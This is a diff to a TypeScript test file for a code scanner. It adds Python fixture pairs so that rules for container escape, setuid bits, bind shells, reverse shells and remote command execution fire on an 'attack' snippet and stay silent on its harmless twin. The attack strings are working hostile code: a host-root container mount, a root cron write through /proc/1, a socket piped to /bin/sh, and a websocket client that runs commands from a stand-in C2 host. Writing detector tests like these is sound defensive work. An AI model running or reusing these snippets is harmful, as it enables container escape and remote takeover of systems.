@@ -60,14 +60,67 @@ const DELETIONS: readonly Plain[] = [
   },
 ];
 
+const RIGHTS: readonly Plain[] = [
+  {
+    name: 'a container that holds the machine',
+    rule: 'container-escape',
+    attack:
+      "import docker\nclient = docker.from_env()\nclient.containers.run('alpine', volumes={'/': {'bind': '/host', 'mode': 'rw'}})",
+    honest:
+      "import docker\nclient = docker.from_env()\nclient.containers.run('alpine', volumes={'/srv/app': {'bind': '/app', 'mode': 'rw'}})",
+  },
+  {
+    name: 'files of the first process',
+    rule: 'container-escape',
+    attack: "from pathlib import Path\nPath('/proc/1/root/etc/cron.d/x').write_text('* * * * * root id')",
+    honest: "from pathlib import Path\nprint(Path('/proc/1/status').read_text())",
+  },
+  {
+    name: 'a setuid bit by its name',
+    rule: 'setuid-bit',
+    attack: "import os, stat\nos.chmod('/tmp/tool', stat.S_ISUID | 0o755)",
+    honest: "import os, stat\nos.chmod('/tmp/tool', stat.S_IXUSR | 0o644)",
+  },
+];
+
+const SHELLS: readonly Plain[] = [
+  {
+    name: 'a connection that is accepted',
+    rule: 'socket-commands-run',
+    attack:
+      "import socket, subprocess\nserver = socket.socket()\nserver.bind(('0.0.0.0', 4444))\nserver.listen(1)\nway, _ = server.accept()\nwhile True:\n    way.send(subprocess.getoutput(way.recv(1024).decode()).encode())",
+    honest:
+      "import socket, subprocess\nserver = socket.socket()\nserver.bind(('127.0.0.1', 4444))\nserver.listen(1)\nway, _ = server.accept()\nway.recv(1024)\nway.send(subprocess.getoutput('uptime').encode())",
+  },
+  {
+    name: 'a shell on an accepted connection',
+    rule: 'reverse-shell',
+    attack:
+      "import socket, subprocess\nserver = socket.create_server(('0.0.0.0', 4444))\nway, _ = server.accept()\nsubprocess.Popen(['/bin/sh'], stdin=way, stdout=way, stderr=way)",
+    honest:
+      "import socket, subprocess\nserver = socket.create_server(('127.0.0.1', 4444))\nway, _ = server.accept()\nsubprocess.Popen(['/bin/sh', 'build.sh'], stdin=subprocess.DEVNULL)",
+  },
+  {
+    name: 'what arrives over a web socket',
+    rule: 'remote-commands-run',
+    attack:
+      "import os, websocket\ndef on_message(way, message):\n    way.send(os.popen(message).read())\nwebsocket.WebSocketApp('wss://c2.example.invalid/s', on_message=on_message).run_forever()",
+    honest:
+      "import os, websocket\ndef on_message(way, message):\n    way.send(os.popen('uptime').read())\nwebsocket.WebSocketApp('wss://c2.example.invalid/s', on_message=on_message).run_forever()",
+  },
+];
+
 async function rulesOf(text: string): Promise<readonly string[]> {
   const { findings } = await staticStage.run(targetOf({ 'run.py': `${text}\n` }), STAGE_CONTEXT);
   return findings.map(({ ruleId }) => ruleId);
 }
 
-describe.each(Object.entries({ deletions: DELETIONS }))('plain %s', (_, cases) => {
-  it.each(cases)('$name: found, and its harmless twin is not', async ({ rule, attack, honest }) => {
-    expect(await rulesOf(attack)).toContain(rule);
-    expect(await rulesOf(honest)).not.toContain(rule);
-  });
-});
+describe.each(Object.entries({ deletions: DELETIONS, rights: RIGHTS, shells: SHELLS }))(
+  'plain %s',
+  (_, cases) => {
+    it.each(cases)('$name: found, and its harmless twin is not', async ({ rule, attack, honest }) => {
+      expect(await rulesOf(attack)).toContain(rule);
+      expect(await rulesOf(honest)).not.toContain(rule);
+    });
+  },
+);
